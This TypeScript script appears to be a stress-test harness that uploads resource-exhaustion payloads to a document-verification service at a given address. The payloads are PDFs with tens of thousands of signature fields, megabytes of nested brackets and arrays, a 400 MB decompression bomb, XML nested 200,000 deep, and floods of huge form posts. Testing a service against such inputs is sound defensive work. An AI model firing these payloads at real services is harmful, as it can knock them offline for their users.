/** Sends what strangers send to hold the program up, from a process of its own: `node attacker.ts ADDRESS NAME`. */
import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'

const MEGABYTE = 1024 * 1024
const address = process.argv[2] ?? ''

const upload = async (name: string, bytes: Uint8Array): Promise<number> => {
  const form = new FormData()
  form.append('file', new Blob([new Uint8Array(bytes)]), name)
  const answer = await fetch(`${address}/api/xac-minh`, { method: 'POST', body: form })
  await answer.arrayBuffer()
  return answer.status
}

const post = async (fields: number): Promise<number> => {
  const body = Array.from({ length: fields }, (_, n) => `a${n}=1`).join('&')
  const headers = { 'content-type': 'application/x-www-form-urlencoded' }
  const answer = await fetch(`${address}/xac-minh`, { method: 'POST', body, headers, redirect: 'manual' })
  await answer.arrayBuffer()
  return answer.status
}

/** A PDF whose form names so many signature fields. */
export function manyFields(count: number): Buffer {
  const refs = Array.from({ length: count }, (_, n) => `${n + 10} 0 R`).join(' ')
  const objects = [
    '1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm 4 0 R>>endobj',
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj',
    `4 0 obj<</SigFlags 3/Fields[${refs}]>>endobj`,
    ...Array.from(
      { length: count },
      (_, n) => `${n + 10} 0 obj<</FT/Sig/T(s${n})/V ${n + 10} 0 R/ByteRange[0 1 2 3]>>endobj`,
    ),
  ]
  let text = '%PDF-1.7\n'
  const places: string[] = []
  for (const object of objects) {
    places.push(`${Number.parseInt(object, 10)} 1\n${String(text.length).padStart(10, '0')} 00000 n \n`)
    text += `${object}\n`
  }
  return Buffer.from(
    `${text}xref\n0 1\n0000000000 65535 f \n${places.join('')}trailer<</Root 1 0 R/Size ${count + 10}>>\nstartxref\n${text.length}\n%%EOF\n`,
  )
}

/** A PDF of so many megabytes of opening brackets. */
export const brackets = (megabytes: number): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(megabytes * MEGABYTE, '(')])

/** A stream that unpacks to very much. */
function bomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * MEGABYTE))
  const head = `%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`
  return Buffer.concat([Buffer.from(head), packed, Buffer.from(`\nendstream endobj\nstartxref\n9\n%%EOF\n`)])
}

export const attacks: Record<string, () => Promise<unknown>> = {
  'a PDF with 30,000 signature fields': () => upload('a.pdf', manyFields(30_000)),
  'a PDF of 40 MB of opening brackets': () => upload('b.pdf', brackets(40)),
  'a PDF of 20 MB of opening arrays': () =>
    upload('c.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj'), Buffer.alloc(20 * MEGABYTE, '[')])),
  'a PDF whose stream unpacks to 400 MB': () => upload('d.pdf', bomb(400)),
  'XML nested 200,000 deep': () => upload('e.xml', Buffer.from(`<?xml version="1.0"?>${'<a>'.repeat(200_000)}`)),
  'signatures of random bytes': () => upload('f.p7s', randomBytes(8 * MEGABYTE)),
  'ten forms of 90,000 fields': () => Promise.all(Array.from({ length: 10 }, () => post(90_000))),
}

if (process.argv[1] === import.meta.filename) await attacks[process.argv[3] ?? '']!()
